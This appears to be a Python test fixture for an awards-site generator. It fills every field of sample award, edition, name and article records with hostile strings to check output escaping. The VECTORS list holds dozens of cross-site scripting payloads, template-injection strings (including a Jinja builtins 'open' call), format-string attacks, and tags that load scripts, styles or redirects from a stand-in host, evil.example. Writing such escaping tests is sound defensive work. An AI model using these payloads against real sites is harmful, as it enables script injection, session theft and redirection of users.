"""Texts that would run in a careless page, and a site with each of them in every field."""

import json
import re
from pathlib import Path

from palmarium.problems import Level
from palmarium.sources.markdown import convert
from tests.conftest import SETTINGS
from tests.images.test_drawings import FIGMA

VECTORS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    '=HYPERLINK("javascript:alert(1)")',
    '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
    "]]><script>alert(1)</script>",
    "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
    "` onfocus=alert(1) autofocus x=`",
    "${alert(1)} {{ 7*7 }} {% include 'x' %} <%= alert(1) %>",
    "{{ say.__globals__['__builtins__']['open']('x') }}",
    "%(who)1000000000s %s {0.__class__} {x.__init__}",
    '\\"; alert(1); // \\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    "red;}body{background:url(//evil.example/a.png)}a{",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--></script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/a.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<style>@import '//evil.example/a.css';</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button autofocus>x",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot; onfocus=alert(1) autofocus &#34;",
    "<svg><script href=data:,alert(1) />",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '"><script>alert(2)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "-->]]><script>alert(3)</script>",
    "{{ 7*7 }}{% include 'layout.html' %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`${alert(1)}`",
    "x onclick=alert(1) y",
)

# Six in each text, for each costs a dozen pages; the first of each may count on where a value begins.
TEXTS = tuple(" ".join(VECTORS[number::7]) for number in range(7))

AWARD = """\
name: V
short: V
names: [{name: V then, until: 2001}]
description: V
organiser: {name: V house, as: V, note: V, role: V, org: V works}
partners: [{name: V house, as: V, note: V}]
country: V
periodicity: V
sisters: [V]
categories:
  pie: {name: V, description: V, method: [V], sector: V, partner: V house, criteria: [V], note: V}
  old: {name: V of old, lineage: {event: merged, from: pie, in: "N", note: V}}
links: [{url: "https://example.org/?a=%3Cscript%3E&b=%22", label: V}]
note: V
claims: [{says: V, count: laureates, is: 7, source: s1, note: V, scope: V}]
sources: {s1: {title: V, author: V, publisher: V, url: "https://example.org/?q=%27", note: V}}
disputes: [{field: founded, value: V, source: s1, note: V}]
"""
EDITION = """\
label: V
sort_year: 2011
status: online
status_note: V
ceremony: {date: 2011-10-03, venue: V, city: V, country: V, note: V}
period: {from: 2011-01, until: 2011-02, note: V}
validity: V
theme: V
hosts: [{name: V, as: V, note: V, role: V, org: V works}]
speakers: [{name: V speaker, as: V}]
jury: [{name: V juror, role: V, org: V works, chair: true, note: V}]
providers: [{name: V house, as: V}]
events: [{name: V, date: 2011-10-02, venue: V, city: V, region: V, note: V}]
deadlines: [{what: V, date: 2011-05-01, note: V}]
attendance: [{value: 300, qualifier: V, what: V, note: V}]
method: {how: [V], provider: V house, channels: [V], tests: V, threshold: V, fee: V, eligibility: V, criteria: [V],
  weights: [{label: V, value: V}], note: V}
rounds: [{id: first, name: V, level: city, entrants: 9, qualifier: V, method: [V], note: V}]
figures:
  - {id: f, title: V, by: V house, unit: V, base: V, answers: [{label: V, value: V}, {label: V b, value: 2}], note: V}
announcements: V
results:
  pie:
    printed_name: V
    method: [V]
    criteria: [V]
    threshold: V
    prize: {in_kind: V}
    note: V
    results:
      - {laureate: {name: V, as: V, posts: [{role: V, org: V works}], kind: person, country: V, note: V},
         credited_as: V, for: [{title: V, kind: V, note: V}], represented_by: V juror, citation: V, round: first,
         score: V, out_of: V, money: {in_kind: V}, printed_category: V,
         amendments: [{on: 2012, change: V, by: V}], note: V}
      - {laureate: V team, distinction: finalist, status: revoked, status_reason: V, note: V, scope: V, track: V}
  old: {not_awarded: {reason: other, note: V}}
claims: [{says: V, count: titles, is: 70, source: s1, note: V}]
sources: {s1: {title: V, author: V, publisher: V, url: "https://example.org/?q=%27", note: V}}
disputes: [{field: theme, value: V, source: s1, note: V}]
note: V
"""
NAME = """\
---
name: V
kind: person
names: [{name: V then, until: 2001}]
aliases: [V alias]
sort: V
expansion: V
disambiguation: V
country: V
city: V
links: [{url: "https://example.org/?a=%22&b=%27", label: V}]
identifiers: {viaf: V}
description: V
picture: {src: a.svg, alt: V, credit: V, caption: V}
sources: {s1: {title: V, note: V}}
---
BODY
"""
ARTICLE = """\
---
title: V
kind: report
deck: V
date: 2011-10-04
author: V writer
publication: V paper
disclosure: V
about: {editions: [ID/N], awards: [ID]}
picture: {src: a.svg, alt: V, credit: V, caption: V}
comments: [{text: V, author: V, date: 2011}]
tags: [V]
claims: [{says: V, count: titles, is: 70, source: s1, note: V}]
sources: {s1: {title: V, author: V, publisher: V, note: V}}
---
BODY
"""


def write(root: Path, texts: tuple[str, ...]) -> None:
    """A site with a record of each kind for each hostile text, which fills all its fields."""
    title = json.dumps(" ".join(VECTORS[:4]), ensure_ascii=False)
    more = "".join(f"{key} = {title}\n" for key in ("subtitle", "description", "publisher"))
    drawing = {"site.toml": SETTINGS.replace('"Prix"', title) + "cards = false\n" + more, "content/media/a.svg": FIGMA}
    records = {
        path: filled(text, vector, number)
        for number, vector in enumerate(texts)
        for path, text in (
            (f"editions/a{number}/award.yaml", AWARD),
            (f"editions/a{number}/e{number}.yaml", EDITION),
            (f"content/names/n{number}.md", NAME),
            (f"content/articles/t{number}.md", ARTICLE.replace("ID", f"a{number}")),
            (f"content/pages/p{number}.md", "---\ntitle: V\ndescription: V\n---\nBODY\n"),
        )
    }
    for path, text in {**drawing, **records}.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text, encoding="utf-8")


def filled(text: str, vector: str, number: int) -> str:
    """A file whose every V is the hostile text, in YAML's quotes; words behind a V stand in them too."""

    def quoted(found: re.Match[str]) -> str:
        # Ids are cut off behind 80 letters: what tells names apart stands in front.
        said = f"{found[1].strip()} {number} {vector}" if found[1] else f"{vector} {number}"
        return json.dumps(said, ensure_ascii=False)

    front = re.sub(r'(?<![\w"])V((?: [a-z]+)*)(?=[,\]}\n])', quoted, text)
    return front.replace("/N", f"/e{number}").replace('"N"', f'"e{number}"').replace("BODY", _body(vector))


def _body(vector: str) -> str:
    """The text as Markdown, where nothing in it is an error; in a code span and with its signs escaped besides."""
    escaped = re.sub(r"([^\w\s])", r"\\\1", vector)
    parts = [vector, f"`` {vector} ``", f"    {vector}", escaped, f"![{escaped}](a.svg)"]
    sound = [part for part in parts if not any(p.level is Level.ERROR for p in convert("a.md", part, 1, "fr")[1])]
    return "\n\n".join(sound)
